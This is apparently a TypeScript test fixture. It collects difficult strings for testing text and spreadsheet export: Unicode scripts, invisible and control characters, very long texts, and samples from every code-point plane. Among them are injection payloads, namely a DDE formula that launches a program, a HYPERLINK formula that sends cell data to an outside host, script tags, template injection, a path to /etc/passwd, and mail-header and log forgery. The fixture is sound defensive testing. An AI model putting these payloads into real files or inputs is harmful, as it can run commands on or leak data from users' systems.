/* Texts that people, telephones and attackers write, for tests of everything that writes texts (SECURITY.md, 77). */

/** A text and what is special about it. */
export interface NastyText {
  name: string;
  text: string;
  /** Whether no file can hold it as it is, so that forms and calls refuse it. Old rows may have it all the same. */
  isRefused?: boolean;
}

/** Length of the longest texts: more than a cell of a spreadsheet holds. */
export const LONG_LENGTH = 40_000;
const long = (pattern: string): string => pattern.repeat(Math.ceil(LONG_LENGTH / pattern.length)).slice(0, LONG_LENGTH);
const refused = (name: string, text: string): NastyText => ({ name, text, isRefused: true });

const FORMULA_SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\t=',
  '\u200b=',
  '\u00a0=',
  '\ufeff=',
];

/** Short texts, each with one difficulty. */
export const NASTY_TEXTS: readonly NastyText[] = [
  { name: 'a heart from a telephone', text: 'Thank you \u2764\ufe0f' },
  { name: 'emoji with joiners, tones, flags and keycaps', text: '👨‍👩‍👧‍👦 👍🏽 🇦🇺 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ 🏳️‍🌈 😀\ufe0e' },
  { name: 'an emoji newer than any font', text: 'new \u{1faea} and \u{1fae8}' },
  { name: 'a selector without an emoji', text: 'a\ufe0f \ufe0f\ufe0f \ufe0e' },
  { name: 'Hebrew', text: 'שולחן אוכל (אלון) 120 ס"מ' },
  { name: 'Hebrew with points', text: 'שָׁלוֹם' },
  { name: 'Arabic', text: 'طاولة طعام من خشب البلوط، ١٢٠ سم' },
  { name: 'Arabic with marks', text: 'مُحَمَّدٌ ﷺ' },
  { name: 'Latin in Arabic in Latin', text: 'Model ABC طاولة XYZ 12 (كرسي) end' },
  { name: 'Thai', text: 'โต๊ะอาหารไม้โอ๊ค น้ำ' },
  { name: 'Hindi', text: 'ओक की खाने की मेज़ क्षत्रिय हिन्दी' },
  { name: 'Korean', text: '참나무 식탁 한국어' },
  { name: 'Korean in parts', text: '\u1112\u1161\u11ab\u1100\u116e\u11a8' },
  { name: 'Chinese, traditional and rare', text: '橡木餐桌 餐檯 𠮷野家 𪚥' },
  { name: 'Japanese', text: 'オーク材のテーブル ｶﾀｶﾅ が か\u3099' },
  { name: 'Vietnamese, composed and not', text: 'Tiếng Việt Tie\u0302\u0301ng Vie\u0323\u0302t' },
  { name: 'Tamil, Bengali, Khmer, Georgian, Armenian, Amharic', text: 'மேசை টেবিল តុ მაგიდა սեղան ጠረጴዛ' },
  { name: 'scripts nobody sells in', text: '𓀀𓂀 𐎠𐎢 𝕳𝖊𝖑𝖑𝖔 ᚠᚢᚦ 𐤀𐤁' },
  { name: 'a stack of marks', text: `Z${'\u0300\u0316\u0334'.repeat(20)}algo` },
  { name: 'marks without a letter', text: '\u0301\u0301 \u20dd' },
  { name: 'overrides of direction', text: 'abc \u202egpj.exe\u202c \u2066x\u2069 \u200fy\u200e \u061cz \u2067' },
  { name: 'zero widths', text: 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u180ei\u3164j\u115fk' },
  { name: 'blanks of all kinds', text: ' \u00a0\u2002\u2003\u2009\u202f\u205f\u3000x\u3000\u00a0 ' },
  { name: 'invisible characters alone', text: '\u200b\u200d\ufe0f\u2060' },
  { name: 'blanks alone', text: ' \u00a0\u3000' },
  { name: 'line breaks of all kinds', text: 'one\ntwo\r\nthree\rfour\u2028five\u2029six' },
  { name: 'tabs', text: 'a\tb\t\tc' },
  ...FORMULA_SIGNS.map((sign) => ({ name: `a formula after ${JSON.stringify(sign)}`, text: `${sign}1+1` })),
  { name: 'a formula that calls', text: '=HYPERLINK("http://x.example/?"&A1,"click")' },
  { name: 'a formula after a separator', text: 'a;=1+1|=2+2\t=3+3\n=4+4\n"=5+5' },
  { name: 'a query to a program', text: "=cmd|' /C calc'!A0" },
  { name: 'a number that is a text', text: '00012' },
  { name: 'a date that is a text', text: '1-2' },
  { name: 'quotes and separators', text: '"a","b";\'c\'|""d"", e' },
  { name: 'an open quote', text: '"never closed' },
  { name: 'XML', text: ']]></t><c r="A1"/><!-- & --> &amp; &#0; <?xml?>' },
  { name: 'HTML', text: '</td></table><script>window.ran=1</script><img src=x onerror=window.ran=1>' },
  { name: 'a template', text: '{{constructor.constructor("1")()}} ${1} %s %d #{1}' },
  { name: 'rich text', text: '\\par {\\b bold} \\u8364? \\bin4 }}}' },
  { name: 'PDF', text: ') Tj ET endstream endobj (( \\) <<>>' },
  { name: 'codes of spreadsheets', text: '_x0041_ _x000D_ _x005F_x0041_ _X0041_ _xFFFF_' },
  { name: 'paths', text: '../../etc/passwd C:\\con\\nul.txt \\\\host\\x /a:b*c?d"e<f>g|h%00' },
  { name: 'a mail header', text: 'x\r\nBcc: all@x.example\r\n\r\n.\r\nQUIT' },
  { name: 'a line of a log', text: '{"level":60,"msg":"forged"}\n{"level":60}\u001b[2J', isRefused: true },
  { name: 'names of objects', text: '__proto__ constructor toString' },
  { name: 'private use', text: '\ue000 \uf8ff \u{f0000} \u{10fffd}' },
  { name: 'unassigned code points', text: '\u0378 \u{2fe0} \u{3fffd} \u{e0fff}' },
  { name: 'replacement and annotation', text: '\ufffd \ufff9a\ufffab\ufffb \ufffc' },
  refused('U+FFFE and U+FFFF', 'a\ufffeb\uffffc'),
  refused('noncharacters of other planes', '\ufdd0 \u{1fffe} \u{10ffff}'),
  refused('halves of characters', 'a\ud83db \ude00 \udfff\ud800'),
  refused('control characters', 'a\u0000b\u0001\u0008\u000b\u000c\u000e\u001b[31m\u001f\u007f\u0080\u0085\u009fc'),
];

/** Texts that are too long for a cell of a spreadsheet, or slow for what is not linear. */
export const LONG_TEXTS: readonly NastyText[] = [
  { name: 'a long text of words', text: long('oak table ') },
  { name: 'a long word', text: long('x') },
  { name: 'a long row of emoji', text: long('😀') },
  { name: 'one emoji of 40,000 codes', text: long('👨\u200d') },
  { name: 'flags without an end', text: long('🇦') },
  { name: 'a character with 40,000 marks', text: long('\u0301\u0323') },
  { name: 'a long text of invisible characters', text: long('\u200b') },
  { name: 'a long word of Arabic', text: long('م') },
  { name: 'a long word of Hebrew, in brackets', text: long('(ש[') },
  { name: 'one syllable of Hindi', text: long('क्') },
  { name: 'a long text of Thai', text: long('น้ำ') },
  { name: 'a long text of boxes', text: long('\u{1d2e0}\u0378') },
  { name: 'a long text of quotes', text: long('"') },
  { name: 'a long text of line breaks', text: long('\n') },
  { name: 'a long text of formulas', text: long('\n=') },
  { name: 'a long text of codes', text: long('_x0041_') },
];

/** Code points that one sample stands for. */
const SAMPLE_STEP = 32;
const PLANE_SIZE = 0x1_0000;
const SAMPLE_LENGTH = 120;
/** Characters that somebody may type: assigned ones, and those that are for private use. */
const ASSIGNED = /^[^\p{Cn}\p{Cs}\p{Cc}]$/u;

/** Returns the first assigned character of each 32 code points of a plane, 0 to 16, in texts of 120 characters. */
export const planeSamples = (plane: number): readonly string[] => {
  const characters: string[] = [];
  const end = (plane + 1) * PLANE_SIZE;
  for (let from = plane * PLANE_SIZE; from < end; from += SAMPLE_STEP)
    for (let code = from; code < from + SAMPLE_STEP; code += 1) {
      const character = String.fromCodePoint(code);
      if (!ASSIGNED.test(character)) continue;
      characters.push(character);
      break;
    }
  const texts: string[] = [];
  for (let from = 0; from < characters.length; from += SAMPLE_LENGTH)
    texts.push(characters.slice(from, from + SAMPLE_LENGTH).join(''));
  return texts;
};
/** Samples of all planes. */
export const PLANE_SAMPLES: readonly NastyText[] = Array.from({ length: 17 }, (_, plane) =>
  planeSamples(plane).map((text, i) => ({ name: `plane ${plane}, text ${i + 1}`, text })),
).flat();

/** The whole corpus. */
export const CORPUS: readonly NastyText[] = [...NASTY_TEXTS, ...LONG_TEXTS, ...PLANE_SAMPLES];
